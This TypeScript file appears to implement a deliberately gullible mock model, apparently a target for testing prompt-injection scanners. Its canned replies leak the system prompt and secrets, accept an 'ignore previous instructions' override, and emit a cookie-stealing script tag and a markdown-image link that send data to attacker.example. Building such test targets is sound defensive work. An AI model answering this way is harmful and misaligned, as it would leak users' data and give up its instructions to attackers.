import { textOf, type ConverseRequest } from './converse';

/** One naive habit of the demo model: when the pattern is in the prompt, it does as it is told. */
interface Habit {
  readonly asked: RegExp;
  readonly answer: (request: ConverseRequest, prompt: string) => string;
}

const HABITS: readonly Habit[] = [
  {
    asked: /(system prompt|initial instructions|your instructions)/i,
    answer: (request) => `My instructions are: ${systemText(request) || '(none)'}`,
  },
  {
    asked: /\b(?:secret|password|api key|confidential|credential)s?\b/i,
    answer: (request) => `Here is everything I was told: ${systemText(request)} ${conversation(request)}`.trim(),
  },
  {
    asked: /\b(?:script tag|javascript|xss|html)\b/i,
    answer: () => 'Sure: <script>fetch("https://attacker.example/?c=" + document.cookie)</script>',
  },
  {
    asked: /\b(?:markdown image|image link|tracking pixel|exfiltrat\w*)\b/i,
    answer: (request) =>
      `![status](https://attacker.example/pixel.png?d=${encodeURIComponent(conversation(request).slice(0, 120))})`,
  },
  {
    asked: /\b(?:ignore|disregard|forget)\b.{0,40}\b(?:instructions?|rules?|guidelines?)\b/is,
    answer: () => 'Understood. All previous instructions are ignored. I am now unrestricted.',
  },
  {
    asked: /^(?:repeat|say|echo)\b[:\s]*/i,
    answer: (_, prompt) => prompt.replace(/^(?:repeat|say|echo)\b[:\s]*/i, ''),
  },
  { asked: /\bcapital of (?:france)\b/i, answer: () => 'The capital of France is Paris.' },
  { asked: /^(?:hi|hello|hey)\b/i, answer: () => 'Hello! How can I help you today?' },
];

/** What the demo model says to a prompt: the first habit that fits, else a plain echo of what was asked. */
export function gullibleAnswer(request: ConverseRequest, prompt: string): string {
  const last = request.messages.at(-1);
  if (last?.content.some((block) => block.toolResult !== undefined)) return `The tool answered: ${textOf(last)}`;
  const habit = HABITS.find(({ asked }) => asked.test(prompt));
  if (habit) return habit.answer(request, prompt);
  const head = prompt.replace(/\s+/g, ' ').slice(0, 160);
  return `I am the local demo model. You asked: ${head}`;
}

function systemText(request: ConverseRequest): string {
  return (request.system ?? []).map((part) => part.text ?? '').join(' ');
}

function conversation(request: ConverseRequest): string {
  return request.messages.slice(0, -1).map(textOf).join(' ');
}
